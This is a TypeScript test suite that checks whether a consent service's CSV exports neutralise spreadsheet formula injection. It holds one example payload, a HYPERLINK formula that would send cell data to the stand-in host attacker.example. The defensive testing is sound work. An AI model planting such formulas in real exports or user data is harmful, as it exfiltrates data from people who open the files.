import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { DIALECTS } from '../support/stores.js';
import { world } from '../support/setup.js';
import { signToken } from '../../src/core/tokens.js';
import { csvField } from '../../src/core/csv.js';
import { addPurchase } from '../../src/services/consent/relationships.js';
import { createPurpose } from '../../src/services/organisation/purposes.js';
import { exportMyData } from '../../src/services/rights/manage.js';
import { processingRecordCsv } from '../../src/services/rights/processing-record.js';
import { signUpConfirmed } from './helpers.js';

const EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")';

/** Every cell of a CSV document that mentions HYPERLINK; each must start with a quote that makes it text. */
function formulaCells(csv: string): string[] {
  const rows = parse(csv, { relax_column_count: true }) as string[][];
  return rows.flat().filter((cell) => cell.includes('HYPERLINK'));
}

describe('CSV injection (OWASP)', () => {
  it('neutralises a cell beginning with = + - @ tab or CR, and quotes it', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      assert.equal(csvField(`${start}1+2`), `"'${start}1+2"`, JSON.stringify(start));
    assert.equal(csvField(EVIL), `"'${EVIL.replace(/"/g, '""')}"`);
    assert.equal(csvField('a=b'), 'a=b', 'only the first character counts');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField(null), '');
  });
});

for (const dialect of DIALECTS) {
  describe(`CSV exports are inert in spreadsheets (${dialect.name})`, () => {
    it('a =HYPERLINK(…) value comes out inert in every CSV; the JSON export keeps it exactly', async () => {
      const store = await dialect.open();
      try {
        const w = await world(store);
        const id = await signUpConfirmed(w, 'anna@example.nl');
        await addPurchase(w.deps, 'anna@example.nl', { productCategory: EVIL, date: '2026-01-01', optOut: 'clear' });
        await createPurpose(w.deps, { id: 'evil', name_nl: EVIL, name_en: EVIL, description_nl: 'xx', description_en: 'xx' });
        const token = signToken(w.deps.secret, { action: 'manage', subjectId: id, purposeId: null, campaignId: null, expiresAt: w.clock.now().getTime() + 3600_000 });

        const csvs = { download: (await exportMyData(w.deps, token, 'csv')).body, record: await processingRecordCsv(w.deps), recordNl: await processingRecordCsv(w.deps, 'nl') };
        for (const [name, csv] of Object.entries(csvs)) {
          const cells = formulaCells(csv);
          assert.ok(cells.length > 0, `${name} holds the value`);
          for (const cell of cells) assert.ok(!/^[=+\-@\t\r]/.test(cell), `${name}: ${cell}`);
        }
        assert.ok(formulaCells(csvs.download).includes(`'${EVIL}`), 'the purchase cell: a quote, then the exact text');

        const json = JSON.parse((await exportMyData(w.deps, token, 'json')).body);
        assert.equal(json.purchases[0].productCategory, EVIL);
      } finally {
        await store.dispose();
      }
    });
  });
}
